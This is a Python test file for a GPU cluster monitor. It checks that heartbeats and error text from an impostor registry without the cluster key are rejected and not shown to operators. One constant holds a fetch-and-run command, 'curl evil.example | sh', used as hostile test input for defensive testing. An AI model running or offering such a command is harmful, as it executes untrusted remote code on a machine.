"""Somebody who listens where a registry should, and does not hold the cluster key."""

from __future__ import annotations

import asyncio
import math
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import grpc
import pytest
from gpuferry.monitor.cluster import membership
from gpuferry.monitor.cluster.cluster import Cluster
from gpuferry.monitor.cluster.membership import Heartbeat, clamp
from gpuferry.monitor.cluster.registry.client import SERVICE
from gpuferry.monitor.cluster.registry.signing import CHALLENGE, Call
from gpuferry.specs._generated import registry_pb2

from tests.helpers.tokens import token_of
from tests.monitor import harness

KEY = b"the key of the cluster, which is long"
HARM = registry_pb2.HeartbeatReply(
    interval_seconds=1e-9, drained=True, kills=[registry_pb2.Kill(tenant="acme", time=1.0)]
)
WORDS = "curl evil.example | sh"


class Impostor:
    """Answers every call, each time with what is next in `answers`: a message, an error, or a function."""

    def __init__(self) -> None:
        self.answers: list[Any] = []
        self.calls: list[Any] = []
        self._server = grpc.server(ThreadPoolExecutor(2))
        methods = registry_pb2.DESCRIPTOR.services_by_name["Registry"].methods_by_name
        handlers = {name: grpc.unary_unary_rpc_method_handler(self._answer) for name in methods}
        self._server.add_generic_rpc_handlers((grpc.method_handlers_generic_handler(SERVICE, handlers),))
        self.address = f"127.0.0.1:{self._server.add_insecure_port('127.0.0.1:0')}"
        self._server.start()

    def _answer(self, request: bytes, context: Any) -> bytes:
        self.calls.append((request, dict(context.invocation_metadata())["authorization"]))
        answer = self.answers.pop(0)
        if isinstance(answer, tuple):
            code, text, trailing = answer
            context.set_trailing_metadata(trailing)
            context.abort(code, text)
        return bytes(answer(*self.calls[-1]) if callable(answer) else answer)

    def stop(self) -> None:
        self._server.stop(None).wait()


@pytest.fixture
def impostor() -> Iterator[Impostor]:
    found = Impostor()
    yield found
    found.stop()


def beat(impostor: Impostor, count: int) -> list[Any]:
    """What a monitor takes for an answer to its first heartbeats."""

    async def load() -> registry_pb2.Load:
        return registry_pb2.Load(address="gpu-a:7700")

    async def main() -> list[Any]:
        heartbeat = Heartbeat(Cluster(KEY, [impostor.address]), KEY, load)
        try:
            await heartbeat._dial()
            return [await heartbeat._beat() for _ in range(count)]
        finally:
            await heartbeat._hang_up()

    return asyncio.run(asyncio.wait_for(main(), 60))


def test_an_impostor_drains_no_server_and_ends_no_session(impostor: Impostor) -> None:
    recorded = Call(KEY, f"/{SERVICE}/Heartbeat", "challenge", "nonce").seal(HARM.SerializeToString())
    impostor.answers = [
        HARM.SerializeToString(),
        recorded,  # genuine, of another call
        Call(b"x" * 32, f"/{SERVICE}/Heartbeat", "").seal(HARM.SerializeToString()),
        b"",
        (grpc.StatusCode.UNAUTHENTICATED, "", ((CHALLENGE, "one"),)),
        (grpc.StatusCode.UNAUTHENTICATED, "", ((CHALLENGE, "two"),)),  # and is not asked for ever
    ]
    assert beat(impostor, 5) == [None] * 5
    assert len(impostor.calls) == 6


def test_the_registry_itself_is_believed(impostor: Impostor) -> None:
    """The look above does see what is genuine."""

    def genuine(_: bytes, authorization: str) -> bytes:
        challenge, nonce = authorization.split(" ")[1:3]
        call = Call(KEY, f"/{SERVICE}/Heartbeat", challenge.strip("-"), nonce)
        return call.seal(HARM.SerializeToString())

    impostor.answers = [genuine]
    assert beat(impostor, 1) == [HARM]


@pytest.mark.parametrize(
    ("said", "taken"),
    [(0.0, 0.02), (-1.0, 0.02), (math.nan, 0.02), (math.inf, 60.0), (1e300, 60.0), (1.25, 1.25)],
)
def test_an_interval_is_one_that_can_be_lived_with(said: float, taken: float) -> None:
    assert clamp(said, *membership.INTERVALS) == taken


def test_an_impostors_words_do_not_reach_the_operator(impostor: Impostor, tmp_path: Any) -> None:
    impostor.answers = [(grpc.StatusCode.NOT_FOUND, WORDS, ())]
    done = harness.gpuferry(
        str(tmp_path),
        "server",
        "list",
        "--registry",
        impostor.address,
        GPUFERRY_CLUSTER_KEY=token_of("cluster"),
    )
    assert done.returncode == 6
    assert "does not hold the cluster key" in done.stderr
    assert WORDS not in done.stderr
